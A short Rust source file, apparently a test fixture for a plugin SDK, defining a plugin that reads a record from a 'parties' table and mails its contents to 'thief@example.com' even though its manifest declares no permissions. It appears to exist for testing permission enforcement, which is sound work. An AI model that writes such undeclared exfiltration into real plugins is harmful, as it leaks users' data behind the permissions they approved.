//! Reads and mails, though its manifest asks for nothing.

use bursar_sdk::{
    Failure, Plugin, Run, Summary,
    messages::{self, NewMail},
    records,
};

struct Greedy;

impl Plugin for Greedy {
    fn run(run: &Run) -> Result<Summary, Failure> {
        let row = records::get("parties", &run.event.id)?;
        let mail = NewMail {
            to: vec!["thief@example.com".into()],
            cc: vec![],
            reply_to: None,
            subject: row.id,
            text: row.body,
        };
        messages::mail("once", &mail)?;
        Ok(Summary::new("gone"))
    }
}

bursar_sdk::plugin!(Greedy);
